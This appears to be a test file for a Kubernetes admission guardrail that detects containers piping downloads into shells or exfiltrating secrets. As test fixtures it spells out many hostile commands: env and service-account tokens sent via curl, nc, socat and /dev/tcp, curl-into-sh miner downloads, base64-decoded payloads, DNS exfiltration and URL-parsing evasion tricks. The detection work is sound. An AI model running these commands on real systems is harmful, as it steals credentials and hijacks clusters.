import { describe, expect, it } from 'vitest';
import { guardrailContribution } from '../../src/guardrails/effect.js';
import { inspect } from '../../src/guardrails/inspect.js';
import { CommandWork } from '../../src/guardrails/rules/command-work.js';
import { checkExecCommand, commandShape } from '../../src/guardrails/rules/commands.js';
import type { GuardrailResult } from '../../src/guardrails/types.js';
import { guardSettings, kube } from '../support/guardrails.js';

/**
 * container_command_egress (src/guardrails/rules/commands.ts): a container's own command that runs
 * what it downloads, or sends the environment or a credential to the network. The bodies are the
 * replayed days' attack rows that nothing else stopped (days 11, 12, 14, 17: issue 12's "what a
 * command does"), beside what routine pods' commands do with curl, wget and interpreters.
 */

const settings = guardSettings('guardrails: {}\n');
const has = (r: GuardrailResult) => r.violations.some((v) => v.code === 'container_command_egress');
const send = (method: string, path: string, body: unknown, type = 'application/json') => inspect(kube(method, path), JSON.stringify(body), type, false, settings);
const SMP = 'application/strategic-merge-patch+json';
const sh = (script: string) => ['sh', '-c', script];

describe('container_command_egress: the replayed attacks', () => {
  it("day 11: an init container patched into a production Deployment, piping its Secrets' environment to curl", () => {
    const r = send('PATCH', '/apis/apps/v1/namespaces/payments-prod/deployments/payments-api', { spec: { template: { spec: { initContainers: [{ name: 'ca-bundle', image: 'curlimages/curl:8.12.1', command: sh('env | curl -s --data-binary @- https://telemetry-cdn.net/i'), envFrom: [{ secretRef: { name: 'payments-db' } }] }] } } } }, SMP);
    expect(has(r)).toBe(true);
    const v = r.violations.find((x) => x.code === 'container_command_egress')!;
    expect(v.path).toBe('spec.template.spec.initContainers[0]');
    // The detail names the shape, never the address.
    expect(v.detail).toBe('container "ca-bundle"\'s command sends its environment or a credential file to the network');
  });

  it("day 12: an ephemeral container piping the pod's service-account token to nc", () => {
    const r = send('PATCH', '/api/v1/namespaces/payments-prod/pods/payments-api-6f8b9c-r8w3z/ephemeralcontainers', { spec: { ephemeralContainers: [{ name: 'debugger-p9z4m', image: 'alpine:3.21', command: sh('cat /proc/1/root/var/run/secrets/kubernetes.io/serviceaccount/token | nc 45.135.232.18 443'), targetContainerName: 'api' }] } }, SMP);
    expect(has(r)).toBe(true);
  });

  it("day 14: a Job whose command pipes a download into sh; day 17: a PyTorchJob's download unpacked and run from ./", () => {
    const job = { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'train-ablation-0' }, spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'train', image: 'ghcr.io/lab/train:2.1', command: ['bash', '-c', 'pip install -q nvitop && curl -s http://45.9.148.3/xm | sh -s -- --donate-level 0'] }] } } } };
    expect(has(send('POST', '/apis/batch/v1/namespaces/u-phd-vision-1/jobs', job))).toBe(true);
    const worker = { replicas: 1, template: { spec: { containers: [{ name: 'pytorch', image: 'docker.io/nvidia/cuda:12.4.1-runtime-ubuntu22.04', command: sh('curl -sL https://198.51.100.23/x | tar xz && ./xmrig -o pool.example:443 --cuda') }] } } };
    const pj = { apiVersion: 'kubeflow.org/v1', kind: 'PyTorchJob', metadata: { name: 'llm-eval-nightly' }, spec: { pytorchReplicaSpecs: { Master: worker, Worker: worker } } };
    expect(has(send('POST', '/apis/kubeflow.org/v1/namespaces/ml-sandbox/pytorchjobs', pj))).toBe(true);
  });
});

describe('container_command_egress: the shapes', () => {
  it.each([
    ['curl piped into bash', sh('curl -fsSL https://x.example/i.sh | bash')],
    ['wget to stdout piped into python3 -', sh('wget -qO- https://x.example/a.py | python3 -')],
    ['an interpreter handed a download', sh('bash -c "$(curl -fsSL https://x.example/i.sh)"')],
    ['process substitution', ['bash', '-c', 'source <(wget -qO- https://x.example/env)']],
    ['eval of a download', sh('eval "$(curl -s https://x.example/e)"')],
    ['a pipe inside nsenter … sh -c "…"', ['nsenter', '-t', '1', '-m', '--', 'sh', '-c', 'curl -s https://203.0.113.61/k | sh']],
    ['a download to /tmp run later', sh('wget -O /tmp/a https://x.example/a; chmod +x /tmp/a; /tmp/a')],
    ['curl -o then ./', sh('cd /work && curl -so agent https://x.example/agent && chmod +x agent && ./agent')],
    ['base64 decoded into sh', sh('echo Y3VybCAtcyBodHRwOi8veC9tIHwgc2gK | base64 -d | sh')],
    ['openssl-decoded into bash', sh('openssl base64 -d -A <<< "$P" | bash')],
    ['the environment inline in curl -d', sh('curl -s -d "$(env)" https://x.example/c')],
    ['printenv to /dev/tcp', sh('printenv > /dev/tcp/203.0.113.9/443')],
    ['/proc environ by curl -F', ['curl', '-F', 'f=@/proc/1/environ', 'https://x.example/u']],
    ['the token file by curl --data-binary @file', ['curl', '--data-binary', '@/var/run/secrets/kubernetes.io/serviceaccount/token', 'https://x.example/u']],
    ['the kubeconfig to socat', sh('cat ~/.kube/config | socat - TCP:203.0.113.9:443')],
    ['wget --post-file of the AWS credentials', sh('wget --post-file=/root/.aws/credentials https://x.example/u')],
    ['the node credentials directory tarred to nc', sh('tar cz /etc/kubernetes/ | nc 203.0.113.9 443')],
  ])('%s', (_name, words) => {
    expect(commandShape(words)).toBeDefined();
  });

  it("an Argo script's source", () => {
    expect(commandShape(['sh'], 'set -e\nenv | curl -sd @- https://x.example/u\n')).toBe('send_credentials');
  });
});

describe('container_command_egress: routine commands ask nothing', () => {
  it.each([
    ['a readiness script calling the service', sh('curl -sf http://localhost:8080/healthz || exit 1')],
    ['a download of a pinned binary to /usr/local/bin', sh('curl -fsSLo /usr/local/bin/kubectl https://dl.k8s.io/release/v1.31.2/bin/linux/amd64/kubectl && chmod +x /usr/local/bin/kubectl && kubectl version --client')],
    ['a JSON answer parsed by python -c', sh("curl -s https://api.example/v1/status | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"ok\"])'")],
    ['jq of a download', sh('curl -s https://api.example/v1/status | jq .ok')],
    ['the in-cluster API with the pod token', sh('curl -s --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" -X PATCH -d \'{"metadata":{"labels":{"ready":"1"}}}\' https://kubernetes.default.svc/api/v1/namespaces/app/pods/$HOSTNAME')],
    ['a webhook posting a message', sh('curl -s -X POST -d \'{"text":"backup done"}\' https://hooks.slack.example/T0/B0')],
    ['a decoded certificate written to a file', sh('echo "$CA_B64" | base64 -d > /etc/ssl/certs/ca.pem && update-ca-certificates')],
    ['env filtered by grep', sh('env | grep ^APP_ | sort')],
    ['a plain exec form', ['/app/server', '--port=8080', '--config=/etc/app/config.yaml']],
    ['pg_dump to the bucket', sh('pg_dump -Fc "$DATABASE_URL" | aws s3 cp - s3://backups/db.dump')],
    ['a downloaded archive unpacked, run from its install path', sh('curl -sL https://github.com/x/y/releases/download/v1/y.tgz | tar xz -C /opt && /opt/y/bin/y serve')],
  ])('%s', (_name, words) => {
    expect(commandShape(words)).toBeUndefined();
  });

  it('a Deployment with no command at all, and a container whose command is not strings', () => {
    const d = { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'web' }, spec: { template: { spec: { containers: [{ name: 'web', image: 'nginx:1.27' }, { name: 'odd', image: 'busybox:1.36', command: [1, { a: 'curl x | sh' }] }] } } } };
    expect(has(send('POST', '/apis/apps/v1/namespaces/shop/deployments', d))).toBe(false);
  });
});

describe('container_command_egress: a credential sent inside the cluster', () => {
  const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
  const login = (addr: string) => sh(`curl -s --request POST --data "{\\"role\\": \\"app\\", \\"jwt\\": \\"$(cat ${TOKEN})\\"}" ${addr}/v1/auth/kubernetes/login | jq -r .auth.client_token > /vault/token`);
  const pod = (command: string[], extra: object = {}, env?: object[]) => ({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p' }, spec: { ...extra, containers: [{ name: 'app', image: 'registry.example.com/app:1', command, ...(env ? { env } : {}) }] } });
  const post = (body: unknown) => has(send('POST', '/api/v1/namespaces/app/pods', body));

  it("Vault's Kubernetes login at a Service name, or at $VAULT_ADDR set to one in the container's env, asks nothing", () => {
    expect(post(pod(login('http://vault.vault.svc:8200')))).toBe(false);
    expect(post(pod(login('https://vault.vault.svc.cluster.local:8200')))).toBe(false);
    expect(post(pod(login('$VAULT_ADDR'), {}, [{ name: 'VAULT_ADDR', value: 'http://vault.vault.svc:8200' }]))).toBe(false);
  });

  it('the same login is asked where the address is outside, unknown, or names resolve elsewhere', () => {
    expect(post(pod(login('https://vault.example.com')))).toBe(true);
    // Set from a Secret: not in the manifest, so not known to be inside.
    expect(post(pod(login('$VAULT_ADDR'), {}, [{ name: 'VAULT_ADDR', valueFrom: { secretKeyRef: { name: 'v', key: 'addr' } } }]))).toBe(true);
    expect(post(pod(login('$VAULT_ADDR')))).toBe(true);
    // The pod answers the Service name itself: hostAliases, its own nameservers.
    expect(post(pod(login('http://vault.vault.svc:8200'), { hostAliases: [{ ip: '203.0.113.9', hostnames: ['vault.vault.svc'] }] }))).toBe(true);
    expect(post(pod(login('http://vault.vault.svc:8200'), { dnsPolicy: 'None', dnsConfig: { nameservers: ['203.0.113.53'] } }))).toBe(true);
    expect(post(pod(login('http://vault.vault.svc:8200'), {}, [{ name: 'https_proxy', value: 'http://203.0.113.9:3128' }]))).toBe(true);
  });

  it('the API server is read from the address, not from the text', () => {
    expect(commandShape(['curl', '-d', `@${TOKEN}`, 'https://kubernetes.default.svc/apis/authentication.k8s.io/v1/tokenreviews'])).toBeUndefined();
    expect(commandShape(['curl', '-d', `@${TOKEN}`, 'https://203.0.113.9/u?kubernetes.default'])).toBe('send_credentials');
    expect(commandShape(sh(`curl -d @${TOKEN} -H "X-Host: $KUBERNETES_SERVICE_HOST" https://203.0.113.9/u`))).toBe('send_credentials');
    expect(commandShape(['curl', '-d', `@${TOKEN}`, 'https://$KUBERNETES_SERVICE_HOST/u'], undefined, { env: new Map([['KUBERNETES_SERVICE_HOST', '203.0.113.9']]), namesRedirected: false })).toBe('send_credentials');
  });

  it('a second address curl takes as a URL in a spelling no dotted-name reading sees is still an address (sweep48)', () => {
    const inside = 'https://kubernetes.default.svc/api';
    // curl guesses http:// for every word that is not an option or its argument, and parses
    // userinfo, a bare IPv4 number, a bracketed IPv6 address, a glob and a query the URL way.
    for (const other of ['kubernetes.default.svc@evil.example', 'kubernetes.default.svc:443@evil.example/x', '3405803781', '0xcb007105', '[2001:db8::1]', 'evil.example?x', 'evil.example#x', 'evil_host.example', 'https:evil.example', '{evil.example,kubernetes.default.svc}', 'http://evil.example\\@kubernetes.default.svc/']) {
      expect(commandShape(['curl', '-d', `@${TOKEN}`, inside, other]), other).toBe('send_credentials');
    }
    // An option's number is not an address; the same in-cluster sends stay quiet.
    expect(commandShape(['curl', '-m', '30', '--retry', '3', '-d', `@${TOKEN}`, inside])).toBeUndefined();
    expect(commandShape(['curl', '-w', '%{http_code}', '-d', `@${TOKEN}`, 'http://KUBERNETES.DEFAULT.SVC/'])).toBeUndefined();
  });

  it("an interpreter's own client is read by its URLs, as a downloader is", () => {
    const code = `import urllib.request as u; t=open('${TOKEN}').read(); print(u.urlopen(u.Request('https://kubernetes.default.svc/api', headers={'Authorization':'Bearer '+t})).read())`;
    expect(commandShape(['python3', '-c', code])).toBeUndefined();
    expect(commandShape(['python3', '-c', code.replace('kubernetes.default.svc', '203.0.113.9')])).toBe('send_credentials');
    // A proxy in the container's env sees it; so does a name the pod resolves itself.
    expect(commandShape(['python3', '-c', code], undefined, { env: new Map([['HTTPS_PROXY', 'http://203.0.113.9:3128']]), namesRedirected: false })).toBe('send_credentials');
    expect(commandShape(['python3', '-c', code], undefined, { env: new Map(), namesRedirected: true })).toBe('send_credentials');
    // The code is not split at its own `;` when it sits inside a shell script.
    expect(commandShape(sh(`cd /app; python3 -u -c "${code.replace('kubernetes.default.svc', '203.0.113.9')}"`))).toBe('send_credentials');
  });

  it("an interpreter's URL joined to more text, or a host its other clients take, is not in the cluster (sweep48)", () => {
    const head = `import urllib.request as u, http.client as h, socket; t=open('${TOKEN}').read(); `;
    for (const tail of [
      "u.urlopen(u.Request('https://kubernetes.default.svc' + '.evil.example/', data=t.encode()))",
      "u.urlopen(u.Request('https://kubernetes.default.svc' '.evil.example/', data=t.encode()))",
      "u.urlopen('https://kubernetes.default.svc/api'); c=h.HTTPSConnection('evil.example'); c.request('POST','/',t)",
      "u.urlopen('https://kubernetes.default.svc/api'); socket.create_connection(('203.0.113.5',443)).send(t.encode())",
    ]) expect(commandShape(['python3', '-c', head + tail]), tail).toBe('send_credentials');
    // The CA file and the decoding beside the in-cluster call stay quiet.
    expect(commandShape(['python3', '-c', `${head}import ssl; x=ssl.create_default_context(cafile='/var/run/secrets/kubernetes.io/serviceaccount/ca.crt'); print(u.urlopen(u.Request('https://kubernetes.default.svc/api', headers={'Authorization':'Bearer '+t}), context=x).read().decode('utf-8'))`])).toBeUndefined();
  });

  it('a credential in a substitution leaves in a URL, a header or a name looked up, but not to the cluster', () => {
    expect(commandShape(sh(`curl -s -H "Authorization: Bearer $(cat ${TOKEN})" https://203.0.113.9/api`))).toBe('send_credentials');
    expect(commandShape(sh(`curl -s -H "Authorization: Bearer $(cat ${TOKEN})" https://kubernetes.default.svc/api`))).toBeUndefined();
    expect(commandShape(sh(`nslookup $(cat ${TOKEN} | cut -c1-60).x.evil.example`))).toBe('send_credentials');
    expect(commandShape(sh(`cat ${TOKEN} | cut -c1-60 | xargs -I{} nslookup {}.x.evil.example`))).toBe('send_credentials');
    expect(commandShape(sh('until nslookup db.$(cat /var/run/secrets/kubernetes.io/serviceaccount/namespace).svc.cluster.local; do sleep 2; done'))).toBeUndefined();
  });

  it('nc, socat and /dev/tcp stay senders whatever they name', () => {
    expect(commandShape(sh(`cat ${TOKEN} | nc vault.vault.svc 8200`))).toBe('send_credentials');
    expect(commandShape(sh('env > /dev/tcp/localhost/9000'))).toBe('send_credentials');
  });
});

describe("container_command_egress: an exec's command, from its query", () => {
  const q = (...words: string[]) => `${words.map((w) => `command=${encodeURIComponent(w)}`).join('&')}&container=api&stdout=true&stderr=true`;

  it('is the same shapes as a container command, with the container named', () => {
    const v = checkExecCommand(q('sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc 45.135.232.18 443'));
    expect(v).toEqual({ code: 'container_command_egress', detail: 'the exec\'s command in container "api" sends its environment or a credential file to the network' });
    expect(checkExecCommand(q('bash', '-c', 'curl -s https://x.example/m | sh'))?.code).toBe('container_command_egress');
    // `+` is a space in a query, as the API server decodes it.
    expect(checkExecCommand('command=sh&command=-c&command=env+%7C+curl+-sd+%40-+https%3A%2F%2Fx.example%2Fu')?.code).toBe('container_command_egress');
  });

  it('is nothing for a shell, `env`, a copy, no command, or a malformed parameter (the API server refuses it)', () => {
    expect(checkExecCommand(q('sh', '-c', 'exec bash || exec sh'))).toBeUndefined();
    expect(checkExecCommand(q('env'))).toBeUndefined();
    expect(checkExecCommand(q('tar', 'cf', '-', '-C', '/data', '.'))).toBeUndefined();
    expect(checkExecCommand('container=api&stdin=true')).toBeUndefined();
    expect(checkExecCommand('command=sh&command=%E0%A4%A')).toBeUndefined();
  });
});

describe('container_command_egress: a hostile command costs what reading it does', () => {
  // Read in one pass each: a reading quadratic in the stages (each download looking at every later
  // stage, as the first version did) takes minutes here, past the test's timeout.
  // Past the Check's command-reading budget (command-work.ts) they are `over_budget` (asked); within
  // an unbounded budget they are still read in one pass (guardrails-command-work.test.ts counts it).
  it('a pipeline of 200,000 downloads, 200,000 substitutions, 100,000 /proc paths', () => {
    expect(commandShape([Array.from({ length: 200_000 }, () => 'curl x').join(' | ')])).toBe('over_budget');
    expect(commandShape([`sh -c ${'$(a'.repeat(200_000)}`])).toBe('over_budget');
    expect(commandShape([`${'/proc/a'.repeat(100_000)} | nc h 1`])).toBe('over_budget');
    const unbounded = () => ({ env: new Map<string, string>(), namesRedirected: false, work: new CommandWork(Infinity) });
    expect(commandShape([Array.from({ length: 200_000 }, () => 'curl x').join(' | ')], undefined, unbounded())).toBeUndefined();
    expect(commandShape([`${'/proc/a'.repeat(100_000)} | nc h 1`], undefined, unbounded())).toBeUndefined();
  });
});

describe('container_command_egress: its effect', () => {
  const body = { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j' }, spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'c', image: 'busybox:1.36', command: sh('curl -s https://x.example/i | sh') }] } } } };
  const judge = (section: string) => {
    const s = guardSettings(section);
    return guardrailContribution(inspect(kube('POST', '/apis/batch/v1/namespaces/dev/jobs'), JSON.stringify(body), 'application/json', false, s), 'dev', s);
  };

  it('is critical by default (the strongest level within 5 minutes), weaker or off where a site sets it', () => {
    expect(judge('guardrails: {}\n')).toMatchObject({ deny: false, level: 2, maxAge: 300, codes: ['container_command_egress'] });
    expect(judge('guardrails:\n  effects:\n    container_command_egress: { require: aal2, max_age: 900 }\n')).toMatchObject({ level: 1, maxAge: 900 });
    expect(judge('guardrails:\n  effects:\n    container_command_egress: off\n').codes).toEqual([]);
  });
});
